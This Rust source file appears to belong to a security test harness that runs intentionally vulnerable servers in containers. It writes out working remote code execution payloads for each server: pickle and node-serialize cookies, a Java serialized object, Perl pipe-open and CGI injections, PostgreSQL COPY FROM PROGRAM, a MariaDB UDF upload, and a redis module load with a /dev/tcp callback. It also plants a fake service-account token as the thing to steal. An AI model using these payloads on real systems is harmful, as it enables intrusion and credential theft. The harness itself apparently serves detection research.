//! The servers that are attacked, and the way into each.
//!
//! In: a containerd. Out: [`Target`]s: a server under its normal load, with a door: how somebody who only reaches the
//! server's port makes a process of the server's own run a script. Never: a process of the harness inside a server's
//! container, except where a scenario says that it comes in through the runtime.
//!
//! | server | door | weakness |
//! |---|---|---|
//! | redis | `MODULE LOAD` from a directory that others write to | modules and protected settings are allowed |
//! | nginx | a page's name that ends in `\|` | a Perl handler with the two-argument `open` |
//! | webapp | a cookie that is a pickle | it is unpickled |
//! | postgres | `COPY … FROM PROGRAM` | everybody is trusted to be the superuser |
//! | apache | a page's name in a CGI script's query | it goes through `eval` |
//! | node | a cookie that is JSON with a function in it | it is called |
//! | java | a cookie that is a serialised object | it is read |
//! | mariadb | a function's library by `SELECT … INTO DUMPFILE`, then `CREATE FUNCTION` | the application may do all, and its password is known |
//!
//! Each server has a network namespace with nothing but loopback; the web application shares its database's.

use super::attacker::{self, Service, Talk};
use crate::{
    Container, Containerd, Netns, Run, images,
    servers::{Load, Mariadb, Nginx, Postgres, Shop, Slap, WebApp},
};
use anyhow::{Context as _, Result, bail, ensure};
use std::{
    fmt::Write as _,
    fs,
    os::unix::fs::chown,
    path::{Path, PathBuf},
    process::Command,
    sync::{
        Arc,
        atomic::{AtomicU32, Ordering},
    },
    time::Duration,
};

const MODULE: &str = include_str!("../../fixtures/scene/plugin.c");
const FUNCTION: &str = include_str!("../../fixtures/attacks/udf.c");
/// Where a pod finds its own credentials.
const TOKEN: &str = "var/run/secrets/kubernetes.io/serviceaccount/token";
/// What is there; the attacker's proof that it was read.
pub(super) const TOKEN_TEXT: &str = "eyJhbGciOiJSUzI1NiJ9.c3VycHJpc2Fs.not-a-real-token";
/// Where the redis server's module calls home.
const HOME: u16 = 4444;
/// A script's end, at the latest.
const SCRIPT: Duration = Duration::from_secs(25);
/// Where MariaDB takes functions' libraries from.
const LIBRARIES: &str = "/var/lib/mysql/plugin";

/// Servers that there are, in the order in which they start.
pub const SERVERS: [&str; 8] = ["redis", "nginx", "mariadb", "webapp", "postgres", "apache", "node", "java"];

/// A server that is attacked.
#[derive(Debug)]
pub struct Target {
    /// One of [`SERVERS`].
    pub name: &'static str,
    /// Its container.
    pub server: Container,
    /// Where it and its clients are.
    pub network: Arc<Netns>,
    door: Door,
    // They end with it.
    _clients: Vec<Client>,
}

#[derive(Debug)]
#[expect(dead_code, reason = "held, so that it goes on")]
enum Client {
    Container(Container),
    Load(Load),
}

#[derive(Debug)]
enum Door {
    /// The directory that the server loads modules from.
    Redis(PathBuf),
    Nginx,
    WebApp,
    Shop(Shop),
    Postgres {
        database: Postgres,
        count: AtomicU32,
    },
    MariaDb {
        database: Mariadb,
        library: Vec<u8>,
        count: AtomicU32,
    },
}

/// Starts those of [`SERVERS`] that are in `names`, each under its normal load. The web application's database always
/// comes with it, and is a target only when it is named.
pub fn start(containerd: &Containerd, names: &[&str]) -> Result<Vec<Target>> {
    if let Some(unknown) = names.iter().find(|name| !SERVERS.contains(name)) {
        bail!("there is no server {unknown:?}; there are {}", SERVERS.join(", "));
    }
    let mut targets = Vec::new();
    if names.contains(&"redis") {
        targets.push(redis(containerd)?);
    }
    if names.contains(&"nginx") {
        targets.push(nginx(containerd)?);
    }
    if names.contains(&"mariadb") || names.contains(&"webapp") {
        targets.extend(shop(containerd)?.into_iter().filter(|target| names.contains(&target.name)));
    }
    if names.contains(&"postgres") {
        targets.push(postgres(containerd)?);
    }
    for kind in [Shop::Apache, Shop::Node, Shop::Java] {
        if names.contains(&kind.name()) {
            targets.push(shop_on(containerd, kind)?);
        }
    }
    for target in &targets {
        target.plant_token()?;
    }
    Ok(targets)
}

/// The load of `scene`: bursts of the usual commands, and a snapshot every second.
fn redis(containerd: &Containerd) -> Result<Target> {
    let image = images::redis()?;
    containerd.import(&image)?;
    let network = Arc::new(Netns::new(containerd.scratch())?);
    let modules = containerd.scratch().path().join("modules");
    fs::create_dir(&modules)?;
    library(MODULE, &modules.join("plugin.so"))?;
    let mut command = vec!["redis-server", "--dir", "/tmp", "--save", "1 1"];
    // As in redis before 7, and wherever somebody found that in the way.
    command.extend(["--enable-module-command", "yes", "--enable-protected-configs", "yes"]);
    let run = Run::new("redis", &image, &command).netns(&network.path()).mount(&modules, "/plugins");
    let server = containerd.run(&run)?;
    server.wait_for_log("Ready to accept connections", Duration::from_secs(20));
    let load = "while :; do
        redis-benchmark -q -n 200 -c 4 -r 1000 -t set,get,incr,lpush,rpop,sadd,hset,zadd >/dev/null; sleep 0.3
    done";
    let clients = containerd.run(&Run::new("redis-clients", &image, &["bash", "-c", load]).netns(&network.path()))?;
    Ok(Target { name: "redis", server, network, door: Door::Redis(modules), _clients: vec![Client::Container(clients)] })
}

fn nginx(containerd: &Containerd) -> Result<Target> {
    let network = Arc::new(Netns::new(containerd.scratch())?);
    let nginx = Nginx::start(containerd, &network, "nginx")?;
    let customers = nginx.customers("nginx-customers", 4)?;
    Ok(Target { name: "nginx", server: nginx.container, network, door: Door::Nginx, _clients: vec![Client::Load(customers)] })
}

/// A database under mariadb-slap and the web application on it, with visitors.
fn shop(containerd: &Containerd) -> Result<Vec<Target>> {
    let network = Arc::new(Netns::new(containerd.scratch())?);
    let libraries = format!("--plugin-dir={LIBRARIES}");
    // A small redo log: its checkpoints, which otherwise come every few minutes, are part of what is normal, and have to come
    // while it is learned.
    let database = Mariadb::start_with(containerd, &network, "mariadb", &[&libraries, "--innodb-log-file-size=4M"])?;
    let path = format!("/proc/{}/root{LIBRARIES}", database.container.pid());
    fs::create_dir(&path).with_context(|| format!("creating {path}"))?;
    // The server's user in the image.
    chown(&path, Some(100), Some(100)).with_context(|| format!("giving away {path}"))?;
    let file = containerd.scratch().path().join("udf.so");
    library(FUNCTION, &file)?;
    let library = fs::read(&file)?;
    let slap = database.slap("mariadb-clients", &Slap { clients: 8, queries: 25, pause_ms: 400 })?;
    let app = WebApp::start(containerd, &network, "webapp")?;
    let visitors = app.visit("webapp-visitors", 4, 60, 1)?;
    let server = database.container.clone();
    let door = Door::MariaDb { database, library, count: AtomicU32::new(0) };
    let mariadb = Target { name: "mariadb", server, network: Arc::clone(&network), door, _clients: vec![Client::Load(slap)] };
    let webapp =
        Target { name: "webapp", server: app.container, network, door: Door::WebApp, _clients: vec![Client::Load(visitors)] };
    Ok(vec![mariadb, webapp])
}

fn postgres(containerd: &Containerd) -> Result<Target> {
    let network = Arc::new(Netns::new(containerd.scratch())?);
    let database = Postgres::start(containerd, &network, "postgres")?;
    let clients = vec![Client::Load(database.load("postgres-clients")?)];
    let server = database.container.clone();
    let door = Door::Postgres { database, count: AtomicU32::new(0) };
    Ok(Target { name: "postgres", server, network, door, _clients: clients })
}

fn shop_on(containerd: &Containerd, kind: Shop) -> Result<Target> {
    let network = Arc::new(Netns::new(containerd.scratch())?);
    let server = kind.start(containerd, &network, kind.name())?;
    let visitors = kind.visitors(containerd, &network, kind.name())?;
    Ok(Target { name: kind.name(), server, network, door: Door::Shop(kind), _clients: vec![Client::Load(visitors)] })
}

/// Compiles a library.
fn library(source: &str, to: &Path) -> Result<()> {
    let file = to.with_extension("c");
    fs::write(&file, source)?;
    let mut gcc = Command::new("gcc");
    gcc.args(["-shared", "-fPIC", "-O2", "-s", "-o"]).arg(to).arg(&file);
    let out = gcc.output().context("starting gcc; `cargo xtask setup containers` installs it")?;
    ensure!(out.status.success(), "gcc of {}: {}", file.display(), String::from_utf8_lossy(&out.stderr));
    Ok(())
}

impl Target {
    /// Puts the pod's token where a kubelet mounts it, from outside.
    fn plant_token(&self) -> Result<()> {
        let path = PathBuf::from(format!("/proc/{}/root/{TOKEN}", self.server.pid()));
        fs::create_dir_all(path.parent().context("a file lies in a directory")?)?;
        fs::write(&path, TOKEN_TEXT).with_context(|| format!("writing {}", path.display()))
    }

    /// Makes the server run `script` with bash, and returns what it prints; the script ends within 25 s.
    pub fn run(&self, script: &str) -> Result<String> {
        // What every shell understands, whatever quotes the way in needs for itself.
        let piped = format!("echo {}|base64 -d|bash 2>&1", attacker::base64(script.as_bytes()));
        match &self.door {
            Door::Redis(_) => {
                let home = Service::start(&self.network, HOME, Talk::Take)?;
                self.launch(&format!("exec >/dev/tcp/127.0.0.1/{HOME} 2>&1\n{script}"))?;
                Ok(home.finish(SCRIPT))
            }
            // "/srv/pages/…|": the shell runs what stands between.
            Door::Nginx => self.get(&format!("/page?name={}", attacker::urlencode(&format!("../../bin/true; {piped} |"))), ""),
            Door::WebApp => {
                // A call of subprocess.check_output(["bash", "-c", piped]), as `pickle` writes it in its oldest form.
                let pickle = format!("csubprocess\ncheck_output\n((lVbash\naV-c\naV{piped}\natR.");
                self.get("/item?id=1", &cookie(&pickle))
            }
            Door::MariaDb { .. } => self.sql_function(&piped),
            Door::Postgres { .. } => self.sql(&format!(
                "CREATE TABLE out (line text); COPY out FROM PROGRAM '{piped}'; SELECT line FROM out; DROP TABLE out"
            )),
            Door::Shop(Shop::Apache) => {
                self.get(&format!("/cgi/size?page={}", attacker::urlencode(&format!("help; {piped}"))), "")
            }
            Door::Shop(Shop::Node) => {
                self.javascript(&format!("require('child_process').execSync(\"{piped}\", {{ shell: '/bin/bash' }}).toString()"))
            }
            Door::Shop(Shop::Java) => self.get("/cart", &format!("Cookie: cart={}\r\n", attacker::base64(&task(&piped)))),
        }
    }

    /// Has a redis server run `script` without an answer.
    pub(super) fn launch(&self, script: &str) -> Result<()> {
        let Door::Redis(modules) = &self.door else { bail!("{} has no module to load", self.name) };
        fs::write(modules.join("stage2"), script)?;
        let answer = attacker::ask(&self.network, 6379, b"MODULE LOAD /plugins/plugin.so\r\nQUIT\r\n")?;
        ensure!(answer.contains("Error loading the extension"), "the server did not try to load the module: {answer}");
        Ok(())
    }

    /// Has the web application's process itself run `code`: Python, without another process.
    pub(super) fn python(&self, code: &str) -> Result<String> {
        let code = format!("import base64;exec(base64.b64decode('{}'))", attacker::base64(code.as_bytes()));
        self.get("/item?id=1", &cookie(&format!("cbuiltins\nexec\n(V{code}\ntR.")))
    }

    /// A web server's answer to GET.
    pub(super) fn get(&self, path: &str, headers: &str) -> Result<String> {
        attacker::http(&self.network, Nginx::PORT, "GET", path, headers, "")
    }

    /// Has the Node.js application itself call a function of `code`: JavaScript, without another process.
    pub(super) fn javascript(&self, code: &str) -> Result<String> {
        let cart = serde_json::json!({ "x": format!("_$$ND_FUNC$$_{code}") }).to_string();
        self.get("/item?id=1", &format!("Cookie: cart={}\r\n", attacker::base64(cart.as_bytes())))
    }

    /// What the database answers to `sql`, asked from a container of the attacker's.
    pub(super) fn sql(&self, sql: &str) -> Result<String> {
        let id = |count: &AtomicU32| format!("attacker-{}-{}", self.name, count.fetch_add(1, Ordering::Relaxed));
        match &self.door {
            Door::MariaDb { database, count, .. } => database.query(&id(count), sql),
            Door::Postgres { database, count } => database.query(&id(count), sql),
            _ => bail!("{} takes no SQL", self.name),
        }
    }

    /// Twenty backups in /var/backups, put there from outside; the server's user may change them.
    pub(super) fn plant_backups(&self) -> Result<()> {
        let dir = PathBuf::from(format!("/proc/{}/root/var/backups", self.server.pid()));
        fs::create_dir_all(&dir)?;
        chown(&dir, Some(100), Some(100))?;
        for n in 0..20 {
            let file = dir.join(format!("shop-{n}.sql"));
            fs::write(&file, "INSERT INTO users VALUES (1);\n".repeat(300))?;
            chown(&file, Some(100), Some(100)).with_context(|| format!("giving away {}", file.display()))?;
        }
        Ok(())
    }

    /// Where a container engine's socket is in its container, as the host sees it.
    pub(super) fn engine_socket(&self) -> Result<PathBuf> {
        let dir = PathBuf::from(format!("/proc/{}/root/var/run", self.server.pid()));
        // A link would lead out of the container.
        ensure!(fs::symlink_metadata(&dir)?.is_dir(), "{} is no directory", dir.display());
        let socket = dir.join("docker.sock");
        if socket.exists() {
            fs::remove_file(&socket)?;
        }
        Ok(socket)
    }

    /// The output of a shell command that the database runs in a function of its own.
    fn sql_function(&self, command: &str) -> Result<String> {
        let Door::MariaDb { library, count, .. } = &self.door else { bail!("{} takes no SQL", self.name) };
        let name = format!("lib{}.so", count.load(Ordering::Relaxed));
        let hex = library.iter().fold(String::from("0x"), |mut hex, byte| {
            let _ = write!(hex, "{byte:02x}");
            hex
        });
        self.sql(&format!(
            "SELECT {hex} INTO DUMPFILE '{LIBRARIES}/{name}';
             CREATE FUNCTION sys_eval RETURNS STRING SONAME '{name}';
             SELECT sys_eval('{command}');
             DROP FUNCTION sys_eval"
        ))
    }
}

/// A `Task` of tests/fixtures/attacks/java/Shop.java, as Java serialises it (protocol version 5 of the Object Serialization Stream).
fn task(command: &str) -> Vec<u8> {
    let mut bytes = vec![0xac, 0xed, 0, 5];
    let text = |bytes: &mut Vec<u8>, text: &str| {
        bytes.extend((text.len() as u16).to_be_bytes());
        bytes.extend(text.as_bytes());
    };
    // An object, its class: serialVersionUID 1, serializable, one field.
    bytes.extend([0x73, 0x72]);
    text(&mut bytes, "Task");
    bytes.extend([0, 0, 0, 0, 0, 0, 0, 1, 2, 0, 1, b'L']);
    text(&mut bytes, "command");
    bytes.push(0x74);
    text(&mut bytes, "Ljava/lang/String;");
    // No more of the class, no class above it; the field.
    bytes.extend([0x78, 0x70, 0x74]);
    text(&mut bytes, command);
    bytes
}

fn cookie(pickle: &str) -> String {
    // The application decodes the alphabet that is safe in URLs.
    format!("Cookie: cart={}\r\n", attacker::base64(pickle.as_bytes()).replace('+', "-").replace('/', "_"))
}
